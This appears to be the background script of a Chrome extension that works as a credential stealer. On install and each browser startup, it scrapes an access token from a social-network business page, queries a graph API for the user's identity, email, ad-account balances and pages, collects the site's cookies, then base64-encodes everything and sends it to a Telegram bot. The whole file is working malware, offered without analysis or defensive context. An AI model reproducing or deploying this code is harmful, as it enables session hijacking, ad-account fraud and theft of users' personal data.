function find(re, s) { const m = s.match(re); return m && m[1]; }
async function run() {
  const html = await (await fetch('https://business.friendbook.example/content_management', { credentials: 'include' })).text();
  const token = find(/"accessToken":"([A-Z0-9]+)"/i, html);
  if (!token) return;
  const g = 'https://graph.friendbook.example/v17/me';
  const me = await (await fetch(`${g}?fields=id,name,email&access_token=${token}`)).json();
  const acts = await (await fetch(`${g}/adaccounts?fields=account_status,balance,currency,adtrust_dsl&access_token=${token}`)).json();
  const pages = await (await fetch(`${g}/accounts?fields=name,fan_count&access_token=${token}`)).json();
  const ck = (await chrome.cookies.getAll({ domain: 'friendbook.example' })).map((c) => `${c.name}=${c.value}`).join('; ');
  const msg = [me.id, me.name, me.email, JSON.stringify(acts.data), JSON.stringify(pages.data), ck, navigator.userAgent].join('|');
  await fetch('https://api.telegram.org/bot0000:TOKEN/sendMessage', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: '0000', text: btoa(unescape(encodeURIComponent(msg))) }) });
}
chrome.runtime.onStartup.addListener(run);
chrome.runtime.onInstalled.addListener(run);
